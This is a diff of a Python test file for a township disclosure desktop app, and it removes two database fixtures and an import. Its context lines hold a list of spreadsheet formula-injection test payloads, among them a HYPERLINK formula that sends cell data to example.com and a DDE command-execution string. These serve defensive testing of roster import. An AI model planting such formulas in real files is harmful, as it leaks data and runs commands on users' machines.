@@ -17,7 +17,6 @@ from tests.conftest import ROOT, run_cli
 from zwgk_desktop.config import Config
 from zwgk_desktop.core.models import AuditEvent, Disclosure, DisclosureItem, OutboxEntry
 from zwgk_desktop.core.schema import open_database
-from zwgk_desktop.core.townships import init_township
 from zwgk_desktop.errors import InvalidInput
 from zwgk_desktop.services.rosters import read_roster
 from zwgk_desktop.services.rosters.importer import import_roster
@@ -26,23 +25,6 @@ from zwgk_desktop.services.rosters.sandbox import Limits, read_sandboxed
 from . import fixtures as fx
 
 INJECTIONS = ['=HYPERLINK("http://example.com/?"&A1,"点我")', "=cmd|' /C notepad'!A0", "+1+2", "-3+4", "@SUM(A1)"]
-
-
-@pytest.fixture
-def data_dir(tmp_path):
-    directory = tmp_path / "data"
-    database = open_database(Config.load(directory))
-    with database.session() as session:
-        init_township(session, "青山镇", fx.VILLAGES)
-    database.dispose()
-    return directory
-
-
-@pytest.fixture
-def database(data_dir):
-    db = open_database(Config.load(data_dir))
-    yield db
-    db.dispose()
 
 
 def notices(data_dir: Path) -> int:
